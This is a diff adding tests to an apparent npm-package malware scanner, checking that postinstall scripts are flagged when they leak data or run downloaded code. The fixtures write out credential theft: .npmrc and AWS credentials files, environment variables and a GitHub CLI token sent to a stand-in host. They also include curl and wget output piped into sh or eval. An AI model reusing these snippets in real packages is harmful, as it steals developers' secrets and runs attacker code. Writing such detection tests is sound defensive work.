@@ -317,3 +317,63 @@ const b = new Bag(); b.add(${read});\n${send} r.end(b.dump());`,
       expect(flowRules(code)).not.toContain('js.exfil-flow');
   });
 });
+
+describe('values through streams, classes, generators, copies and child process output', () => {
+  const install = (code: string) =>
+    analyzeSource({
+      'package.json': JSON.stringify({ name: 'x', version: '1.0.0', scripts: { postinstall: 'node i.js' } }),
+      'i.js': code,
+    });
+  const rules = (code: string) => install(code).evidence.map((f) => f.rule);
+  const req = `require('https').request({ host: 'sync.example-cdn.net', path: '/up', method: 'PUT' })`;
+  const home = `require('os').homedir()`;
+  it('a credential file streamed into a request (pipe, stream.pipeline)', () => {
+    expect(rules(`require('fs').createReadStream(${home} + '/.npmrc').pipe(${req});`)).toContain(
+      'js.exfil-flow',
+    );
+    expect(
+      rules(`const { pipeline } = require('stream');
+pipeline(require('fs').createReadStream(${home} + '/.aws/credentials'), require('zlib').createGzip(), ${req}, () => {});`),
+    ).toContain('js.exfil-flow');
+  });
+  it("a class's static method and static field, a generator's yields, a structured clone of the environment", () => {
+    for (const code of [
+      `class Reporter { static send(x) { ${req}.end(x); } }\nReporter.send(JSON.stringify(process.env));`,
+      `class Cfg { static CMD = ['curl', '-s', 'https://get.example-cdn.net/x.sh']; }
+const { execFileSync } = require('child_process');
+execFileSync('sh', ['-c', execFileSync(Cfg.CMD[0], Cfg.CMD.slice(1)).toString()]);`,
+      `function* secrets() { for (const k of Object.keys(process.env)) if (/TOKEN/.test(k)) yield k + '=' + process.env[k]; }
+${req}.end([...secrets()].join('&'));`,
+      `const copy = structuredClone(process.env);\n${req}.end(JSON.stringify(copy));`,
+    ])
+      expect(install(code).risk_level).toBe('critical');
+  });
+  it('what a downloader prints is what the server sent: run, evaluated, or a CLI token sent on', () => {
+    const cp = `const cp = require('child_process');`;
+    expect(
+      rules(`${cp} cp.execSync(cp.execSync('curl -fsSL https://get.example-cdn.net/x.sh').toString());`),
+    ).toContain('js.exec-network-data');
+    expect(
+      rules(`${cp} cp.exec('curl -s https://get.example-cdn.net/x.sh', (e, out) => { cp.exec(out); });`),
+    ).toContain('js.exec-network-data');
+    expect(
+      rules(
+        `${cp} eval(cp.execFileSync('wget', ['-qO-', 'https://get.example-cdn.net/p.js'], { encoding: 'utf8' }));`,
+      ),
+    ).toContain('js.eval-network');
+    expect(
+      rules(
+        `${cp} cp.exec('gh auth token', (e, tok) => { require('https').get('https://sync.example-cdn.net/t?v=' + tok); });`,
+      ),
+    ).toContain('js.secret-env-to-network');
+  });
+  it('quiet: a version check printed, a download saved to a file, its own build output uploaded, a generator of constants', () => {
+    for (const code of [
+      `require('child_process').execFile('curl', ['-s', 'https://api.example.com/latest'], (e, out) => console.log(JSON.parse(out).version));`,
+      `const cp = require('child_process'); cp.execFileSync('curl', ['-o', 'vendor.tgz', 'https://get.example.com/v.tgz']); console.log(cp.execFileSync('curl', ['-s', 'https://api.example.com/v']).toString());`,
+      `require('fs').createReadStream(__dirname + '/dist/report.json').pipe(${req});`,
+      `function* sizes() { yield 16; yield 32; }\n${req}.end(JSON.stringify([...sizes()]));`,
+    ])
+      expect(threatsOf(install(code))).toEqual([]);
+  });
+});
